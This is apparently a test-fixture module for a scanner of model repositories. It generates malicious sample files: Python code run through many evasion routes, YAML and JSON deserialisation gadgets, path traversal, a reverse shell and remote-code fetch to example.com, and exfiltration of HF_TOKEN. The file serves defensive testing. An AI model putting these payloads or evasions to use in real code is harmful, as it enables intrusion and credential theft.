"""Malicious files beside the weights: configs, Python, notebooks, requirements, YAML, secrets, programs, pages."""

import base64
import json
import struct
from collections.abc import Iterator
from typing import Any

from tests.corpus.case import ECHO, Case, Cases, Expect, fail, folder, unknown

RUN = f'import os\nos.system("{ECHO}")\n'


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


# -- Python

_LONG = base64.b64encode(RUN.encode() * 40).decode()
PYTHON = {
    "import-time-system": RUN,
    "import-time-subprocess": f'import subprocess\nsubprocess.run(["sh", "-c", "{ECHO}"])\n',
    "from-import": f'from os import system as s\ns("{ECHO}")\n',
    "alias": f'import os as o\no.system("{ECHO}")\n',
    "dunder-import": f'__import__("os").system("{ECHO}")\n',
    "importlib": f'import importlib\nimportlib.import_module("os").system("{ECHO}")\n',
    "getattr": f'import os\ngetattr(os, "sys" + "tem")("{ECHO}")\n',
    "exec": f"exec({RUN!r})\n",
    "eval": f"eval({RUN!r})\n",
    "exec-base64": f'import base64\nexec(base64.b64decode("{_LONG}"))\n',
    "exec-compile": f'exec(compile({RUN!r}, "x", "exec"))\n',
    "builtins": f'import builtins\nbuiltins.exec("{ECHO}")\n',
    "in-class-body": f'import os\nclass A:\n    x = os.system("{ECHO}")\n',
    "in-default": f'import os\ndef f(x=os.system("{ECHO}")):\n    pass\n',
    "in-decorator": f'import os\n@os.system("{ECHO}")\ndef f():\n    pass\n',
    "in-annotation": f'import os\ndef f(x: os.system("{ECHO}")):\n    pass\n',
    "in-comprehension": f'import os\nx = [os.system(c) for c in ["{ECHO}"]]\n',
    "in-lambda-called": f'import os\n(lambda: os.system("{ECHO}"))()\n',
    "in-try": f'try:\n    import os\n    os.system("{ECHO}")\nexcept Exception:\n    pass\n',
    "in-if": f'import os\nif True:\n    os.system("{ECHO}")\n',
    "called-function": f'import os\ndef f():\n    os.system("{ECHO}")\nf()\n',
    "in-with": 'with open("/tmp/weighbridge", "w") as f:\n    f.write("x")\n',
    "urlopen": 'import urllib.request\nexec(urllib.request.urlopen("http://example.com/x").read())\n',
    "requests": 'import requests\nexec(requests.get("http://example.com/x").text)\n',
    "socket-shell": 'import socket, subprocess, os\ns = socket.socket()\ns.connect(("example.com", 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["sh", "-i"])\n',
    "pickle": 'import pickle\npickle.load(open("x.pkl", "rb"))\n',
    "torch-load": 'import torch\ntorch.load("x.pt", weights_only=False)\n',
    "ctypes": 'import ctypes\nctypes.CDLL("./x.so")\n',
    "marshal": 'import marshal\nexec(marshal.loads(b"x"))\n',
    "pip": 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])\n',
    "thread": f'import threading, os\nthreading.Thread(target=os.system, args=("{ECHO}",)).start()\n',
    "atexit": f'import atexit, os\natexit.register(os.system, "{ECHO}")\n',
    "partial": f'import functools, os\nfunctools.partial(os.system, "{ECHO}")()\n',
    "dict-of-builtins": f'__builtins__["exec"]("{ECHO}")\n',
    "globals": f'import os\nglobals()["os"].system("{ECHO}")\n',
    "star-import": f'from os import *\nsystem("{ECHO}")\n',
    "star-import-in-method": f'from os import *\nclass Net:\n    def forward(self, x):\n        system("{ECHO}")\n        return x\n',
    "star-import-of-builtin": 'from os import *\nx = open("/tmp/weighbridge", 65)\n',
    "semicolon": f'x = 1; import os; os.system("{ECHO}")\n',
    "environment": 'import os, urllib.request\nurllib.request.urlopen("http://example.com/?" + os.environ["HF_TOKEN"])\n',
    "reduce": f'import os, pickle\nclass A:\n    def __reduce__(self):\n        return os.system, ("{ECHO}",)\n',
    "in-method": f'import os\nclass Net:\n    def forward(self, x):\n        os.system("{ECHO}")\n        return x\n',
    "in-getattr": f'import os\ndef __getattr__(name):\n    os.system("{ECHO}")\n',
    "in-init-subclass": f'import os\nclass A:\n    def __init_subclass__(cls):\n        os.system("{ECHO}")\nclass B(A):\n    pass\n',
    "metaclass": f'import os\nclass M(type):\n    def __new__(c, *a):\n        os.system("{ECHO}")\n        return type.__new__(c, *a)\nclass B(metaclass=M):\n    pass\n',
}  # fmt: skip


UNSURE = {"in-with", "reduce"}
"""Programs of people do these things too."""


def python() -> Cases:
    for what, text in PYTHON.items():
        files: dict[str, bytes | str] = {
            "config.json": _json({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Net"}}),
            "modeling_x.py": text,
        }
        yield folder("python", what, files, Expect.UNKNOWN if what in UNSURE else Expect.FAIL)
    yield fail("python", "setup", "setup.py", RUN.encode())
    yield fail("python", "hubconf", "hubconf.py", RUN.encode())
    yield fail("python", "dataset-script", "dataset.py", RUN.encode())
    yield fail("python", "handler", "handler.py", RUN.encode())
    yield fail("python", "bom", "modeling.py", b"\xef\xbb\xbf" + RUN.encode())
    yield fail("python", "form-feed", "modeling.py", b"\x0c\n" + RUN.encode())
    yield unknown("python", "syntax-error", "modeling.py", b"def f(:\n")
    yield unknown("python", "other-encoding", "modeling.py", b"# coding: rot13\nvzcbeg bf\n")


# -- configs


def configs() -> Cases:
    yield folder(
        "config",
        "auto-map-and-code",
        {"config.json": _json({"auto_map": {"AutoModel": "evil.Net"}}), "evil.py": RUN},
        Expect.FAIL,
    )
    yield folder(
        "config",
        "auto-map-tokenizer",
        {"tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tok.T", None]}}), "tok.py": RUN},
        Expect.FAIL,
    )
    yield folder(
        "config",
        "custom-pipeline",
        {"model_index.json": _json({"_class_name": ["pipeline", "P"]}), "pipeline.py": RUN},
        Expect.FAIL,
    )
    yield fail(
        "config",
        "attention-from-hub",
        "config.json",
        _json({"_attn_implementation_internal": "someone/kernel"}),
    )
    for target in ("os.system", "subprocess.Popen", "builtins.eval", "builtins.exec", "shutil.rmtree", "importlib.import_module", "pickle.loads",
                   "torch.load", "numpy.load", "webbrowser.open", "pydoc.pipepager", "posix.system", "code.interact", "runpy.run_path"):  # fmt: skip
        yield fail(
            "config",
            f"target-{target}",
            "config.json",
            _json({"model": {"_target_": target, "command": ECHO}}),
        )
    yield fail(
        "config", "target-yaml", "config.yaml", f"model:\n  _target_: os.system\n  command: {ECHO}\n".encode()
    )
    yield fail("config", "target-yaml-flow", "config.yaml", b"model: {_target_: subprocess.Popen, args: x}\n")
    yield fail("config", "target-yaml-list", "config.yaml", b"- _target_: builtins.exec\n")
    yield fail("config", "class-path", "config.yaml", b"model:\n  class_path: os.system\n")
    yield fail(
        "config", "loader-module", "MLmodel.yaml", b"flavors:\n  python_function:\n    loader_module: os\n"
    )
    yield fail(
        "config", "jsonpickle", "config.json", _json({"py/object": "subprocess.Popen", "py/newargs": {}})
    )
    yield fail(
        "config",
        "jsonpickle-reduce",
        "config.json",
        _json({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [ECHO]}]}),
    )
    yield fail(
        "config", "modules", "modules.json", _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
    )
    yield fail(
        "config",
        "index-traversal",
        "model.safetensors.index.json",
        _json({"weight_map": {"a": "../../etc/passwd"}}),
    )
    yield fail(
        "config",
        "index-absolute",
        "pytorch_model.bin.index.json",
        _json({"weight_map": {"a": "/etc/passwd"}}),
    )
    yield fail(
        "config",
        "index-url",
        "model.safetensors.index.json",
        _json({"weight_map": {"a": "http://example.com/x"}}),
    )
    yield fail(
        "config", "tag-apply", "config.yaml", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode()
    )
    yield fail("config", "tag-new", "config.yaml", b"a: !!python/object/new:subprocess.Popen [x]\n")
    yield fail("config", "tag-name", "config.yml", b"a: !!python/name:os.system\n")
    yield fail("config", "tag-module", "config.yaml", b"a: !!python/module:os\n")
    yield fail(
        "config", "tag-long", "config.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n"
    )
    yield fail(
        "config",
        "tag-directive",
        "config.yaml",
        b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n",
    )
    yield fail("config", "tag-escaped", "config.yaml", b"a: !!python%2Fobject%2Fapply:os.system [x]\n")
    yield fail("config", "tag-escaped-letter", "config.yaml", b"a: !!pyth%6Fn/name:os.system\n")
    yield fail(
        "config",
        "tag-directive-half",
        "config.yaml",
        b"%TAG !p! tag:yaml.org,2002:py\n---\na: !p!thon/object/apply:os.system [x]\n",
    )
    yield fail(
        "config",
        "tag-directive-short",
        "config.yaml",
        b"%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [x]\n",
    )
    yield fail(
        "config",
        "tag-directive-escaped",
        "config.yaml",
        b"%TAG !p! tag:yaml.org,2002:pyth%6Fn/\n---\na: !p!object/apply:os.system [x]\n",
    )
    yield fail("config", "target-yaml-tagged-value", "config.yaml", b"a:\n  _target_: !!str os.system\n")
    yield fail("config", "target-yaml-tagged-key", "config.yaml", b"a:\n  !!str _target_: os.system\n")
    yield fail("config", "target-yaml-anchored-key", "config.yaml", b"a:\n  &k _target_: os.system\n")
    yield fail("config", "target-yaml-escaped-key", "config.yaml", b'a:\n  "_targ\\x65t_": os.system\n')
    yield fail("config", "target-yaml-escaped-value", "config.yaml", b'a:\n  _target_: "o\\x73.system"\n')
    yield fail("config", "target-yaml-question", "config.yaml", b"a:\n  ? _target_\n  : os.system\n")
    yield fail("config", "target-yaml-alias", "config.yaml", b"x: &k _target_\na:\n  *k : os.system\n")
    yield fail("config", "target-yaml-anchored-value", "config.yaml", b"a:\n  _target_: &v os.system\n")
    yield fail("config", "target-yaml-alias-value", "config.yaml", b"x: &v os.system\na:\n  _target_: *v\n")
    yield fail("config", "target-yaml-block", "config.yaml", b"a:\n  _target_: >-\n    os.system\n")
    yield fail(
        "config",
        "target-yaml-comment-between",
        "config.yaml",
        b"a:\n  _target_: # the model\n    os.system\n",
    )
    yield fail("config", "target-yaml-json", "config.yaml", b'{"a": {"_target_":"os.system"}}\n')
    yield fail(
        "config", "tag-without-suffix", "MLmodel", f'a: !!python/object/apply:os.system ["{ECHO}"]\n'.encode()
    )
    yield unknown(
        "config",
        "auto-map-elsewhere",
        "config.json",
        _json({"auto_map": {"AutoModel": "someone/else--m.Net"}}),
    )
    yield unknown(
        "config", "auto-map-missing", "config.json", _json({"auto_map": {"AutoModel": "modeling.Net"}})
    )
    yield unknown("config", "trust-remote-code", "config.json", _json({"trust_remote_code": True}))
    yield unknown("config", "target-own", "config.json", _json({"_target_": "mylib.models.Net"}))
    yield unknown(
        "config", "duplicate-keys", "config.json", b'{"architectures": ["A"], "architectures": ["B"]}'
    )
    yield unknown(
        "config",
        "missing-shard",
        "model.safetensors.index.json",
        _json({"weight_map": {"a": "x.safetensors"}}),
    )


# -- everything else


def _notebook(*cells: str, outputs: Any = ()) -> bytes:
    found = [
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": None,
            "outputs": list(outputs),
            "source": text,
        }
        for text in cells
    ]
    return _json({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": found})


def _github_token() -> str:
    from weighbridge.scan.rules.secret_in_file import crc_base62

    body = "".join("qZ7wX3vT9kLm2RpB5sHy"[i % 20] for i in range(30))
    return "ghp_" + body + crc_base62(body)


def others() -> Cases:
    yield fail("notebook", "system", "a.ipynb", _notebook(f'import os\nos.system("{ECHO}")'))
    yield unknown("notebook", "exec", "a.ipynb", _notebook("exec('import os')"))
    yield fail("notebook", "second-cell", "a.ipynb", _notebook("x = 1", RUN))
    yield fail("notebook", "shell", "a.ipynb", _notebook(f"!{ECHO}"))
    yield unknown("notebook", "bash", "a.ipynb", _notebook(f"%%bash\n{ECHO}"))
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": "<script>alert(1)</script>"},
    }
    yield fail("notebook", "script-output", "a.ipynb", _notebook("x", outputs=[script]))
    urls = ("x @ https://example.com/x.tar.gz", "git+https://example.com/x.git", "--index-url http://example.com/simple", "--extra-index-url https://example.com/simple",
            "-e git+ssh://git@example.com/x", "https://example.com/x.whl", "--find-links http://example.com", "--trusted-host example.com")  # fmt: skip
    for number, line in enumerate(urls):
        yield fail("requirements", f"url-{number}", "requirements.txt", f"numpy\n{line}\n".encode())
    keys = {
        "github": f"token = {_github_token()}",
        "private-key": _private_key(),
    }
    for what, text in keys.items():
        yield fail("secret", what, "notes.txt", text.encode())
        yield fail("secret", f"{what}-in-json", "config.json", _json({"x": text}))
    programs = {
        "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(100),
        "pe": b"MZ"
        + bytes(58)
        + struct.pack("<I", 64)
        + b"PE\0\0"
        + struct.pack("<HH", 0x8664, 1)
        + bytes(100),
        "mach-o": b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x01000007, 3, 2) + bytes(100),
        "pyc": b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(60),
        "wasm": b"\x00asm\x01\x00\x00\x00" + bytes(20),
        "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40),
    }
    for what, data in programs.items():
        yield fail("program", what, "model.bin", data)
        yield fail("program", f"{what}-as-weights", "model.safetensors", data)
    yield fail("program", "llamafile", "model.llamafile", programs["elf"] + bytes(64))
    yield unknown("program", "shell", "run.sh", f"#!/bin/sh\n{ECHO}\n".encode())
    yield unknown("program", "shell-without-suffix", "run", f"#!/bin/bash\n{ECHO}\n".encode())
    yield fail(
        "page", "svg", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    )
    yield fail(
        "page", "svg-handler", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    )
    yield fail("page", "html", "card.html", b"<html><script>alert(1)</script></html>")
    refresh = b'<html><meta http-equiv="refresh" content="0;url=http://example.com"></html>'
    yield fail("page", "html-refresh", "card.html", refresh)
    twice = b'<html><meta http-equiv="expires" content="0"><meta http-equiv=refresh content="0;url=x"></html>'
    yield unknown("page", "html-second-refresh", "card.html", twice)
    hidden = b'<html><meta title="http-equiv=pragma " http-equiv="&#114;efresh" content="0;url=x"></html>'
    yield unknown("page", "html-hidden-refresh", "card.html", hidden)
    yield unknown(
        "page", "html-frame", "card.html", b"<html><iframe src='http://example.com'></iframe></html>"
    )
    yield fail("name", "hidden-0", "model\u202esrosnetefas.pkl", b"hello\n")
    yield unknown("name", "hidden-1", "x.safetensors.pkl", b"hello\n")
    yield folder("name", "collision", {"A.json": "{}", "a.json": "{}"}, Expect.UNKNOWN)
    yield folder(
        "name", "collision-unicode", {"caf\u00e9.json": "{}", "cafe\u0301.json": "{}"}, Expect.UNKNOWN
    )
    yield folder("name", "empty", {"model.safetensors": b""}, Expect.UNKNOWN)
    yield fail("name", "pointer-dressed", "model.safetensors", b"\x80\x04cos\nsystem\nX\x01\0\0\0x\x85R.")
    yield unknown(
        "name",
        "lfs-pointer",
        "model.safetensors",
        b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1\n",
    )
    yield unknown(
        "unread", "random", "model.bin", bytes((i * i * 7 + i * 31 + 5) % 256 for i in range(1, 900))
    )
    yield unknown("unread", "zstd", "model.bin", b"\x28\xb5\x2f\xfd" + bytes(60))
    yield unknown("unread", "7z", "model.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60))
    yield unknown("unread", "saved-model", "saved_model.pb", b"\x08\x01\x12\x05\x0a\x03abc")
    yield unknown("unread", "rds", "model.rds", b"X\n\0\0\0\3" + bytes(60))
    yield fail(
        "unread", "msgpack", "flax_model.msgpack", b"\x81\xa1a\xc7\x05\x01abcde"
    )  # no array that flax writes


def _private_key() -> str:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519

    key = ed25519.Ed25519PrivateKey.from_private_bytes(bytes(range(7, 39)))
    kinds = (serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    return key.private_bytes(*kinds).decode()


def cases() -> Iterator[Case]:
    yield from python()
    yield from configs()
    yield from others()
